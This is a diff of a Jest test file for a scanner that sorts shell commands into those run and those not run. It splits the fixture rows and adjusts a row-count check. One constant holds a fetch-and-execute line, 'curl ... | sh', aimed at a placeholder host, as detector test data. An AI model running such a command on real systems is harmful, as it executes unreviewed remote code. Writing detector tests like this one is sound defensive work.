@@ -1,6 +1,7 @@
 import { readFileSync } from 'node:fs';
 import { describe, expect, it } from '@jest/globals';
 import { scanFiles } from '../properties/soundness.ts';
+import { halved } from '../support/heavy.ts';
 
 /** The rows of a file, with empty lines between them. */
 function rowsOf(name: string): readonly string[] {
@@ -9,7 +10,9 @@ function rowsOf(name: string): readonly string[] {
     .split('\n\n');
 }
 
-const RUN = rowsOf('run.txt');
+const ALL = rowsOf('run.txt');
+/** Four scans read each of them. */
+const RUN = halved(ALL, 0);
 const NOT_RUN = rowsOf('not-run.txt');
 const FETCHES = 'curl -s http://get.example.com/a|sh';
 const HARMLESS = 'ls /a|wc -l';
@@ -49,7 +52,7 @@ function suspected(rows: readonly string[], told: ReadonlyMap<number, readonly s
 
 describe('commands that a program is given', () => {
   it('has enough rows', () => {
-    expect(RUN.length).toBeGreaterThanOrEqual(370);
+    expect(ALL.length).toBeGreaterThanOrEqual(370);
     expect(NOT_RUN.length).toBeGreaterThanOrEqual(120);
   });
 
